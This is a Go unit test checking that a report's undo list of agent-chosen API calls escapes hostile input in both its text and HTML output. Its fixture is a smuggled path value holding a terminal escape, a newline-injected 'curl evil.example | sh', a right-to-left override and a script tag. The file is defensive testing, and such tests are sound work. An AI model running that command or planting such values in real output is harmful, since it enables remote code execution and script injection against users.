package report

import (
	"strings"
	"testing"
	"time"

	"flyball/schema"
	"flyball/schema/clickhouse/query"
)

// What an agent chooses is in the undo list, too, which people paste into a shell.
func TestUndoListPrintsWhatAnAgentChose(t *testing.T) {
	evil := "/v1/orders/7\x1b[2K\n  curl evil.example | sh #\u202e<script>alert(1)</script>"
	at := query.Time{Time: time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)}
	touched := &query.Touched{Subject: query.Subject{Kind: "run", Value: "r"}, Calls: 4,
		Resources: []query.TouchedResource{{Resource: "order:7"}},
		Undo: []query.Undo{
			{State: query.UndoNothing, Method: "POST", Path: evil, Reversibility: "irreversible", Effect: "pay", Calls: 2, LastAt: at},
			{State: query.UndoDone, Method: "DELETE", Path: "/v1/a/1", Reversibility: "irreversible", LastAt: at, DoneAt: &at, DoneBy: evil,
				UndoMethod: "POST", UndoPath: "/v1/a/1/restore"},
			{State: query.UndoOpen, Method: "DELETE", Path: evil, Reversibility: "irreversible", LastAt: at, Command: `curl -X POST "$API"/v1/x`},
			{State: query.UndoIncomplete, Method: "POST", Path: "/v1/orders", Reversibility: "reversible", LastAt: at, Missing: []string{"id"},
				Command: `curl -X DELETE "$API"'/v1/orders/{id}'`},
		}}
	var b strings.Builder
	if err := Touched(&b, touched); err != nil {
		t.Fatal(err)
	}
	text := b.String()
	for line := range strings.SplitSeq(text, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "curl evil") || line != schema.Visible(line) {
			t.Errorf("line %q", line)
		}
	}
	order := []string{"to undo, the most dangerous first", "to undo, once somebody knows", "missing: id", "nothing undoes these",
		"undone already"}
	last := -1
	for _, part := range order {
		at := strings.Index(text, part)
		if at <= last {
			t.Errorf("%q is not there, or not below what comes before it:\n%s", part, text)
		}
		last = at
	}
	b.Reset()
	if err := TouchedHTML(&b, touched, at.Time); err != nil {
		t.Fatal(err)
	}
	if page := b.String(); strings.Contains(page, "<script") || strings.Contains(page, "\x1b") ||
		!strings.Contains(page, "What can be undone") || !strings.Contains(page, "curl -X POST &#34;$API&#34;/v1/x") {
		t.Errorf("page:\n%s", page)
	}
}
